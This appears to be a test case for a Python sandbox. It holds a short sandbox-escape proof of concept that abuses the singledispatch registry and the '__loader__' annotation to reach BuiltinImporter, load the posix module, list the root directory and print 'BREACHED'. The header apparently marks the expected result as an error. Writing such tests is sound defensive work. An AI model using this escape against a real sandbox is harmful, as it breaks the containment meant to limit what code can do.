# fence: error | walls: -
from functools import singledispatch

@singledispatch
def show(x):
    pass

@show.register
def _(x: "__loader__"):
    pass

loader = [cls for cls in show.registry if cls.__name__ == "BuiltinImporter"][0]
os = loader.load_module("posix")
print("BREACHED" if os.listdir("/") else "empty")
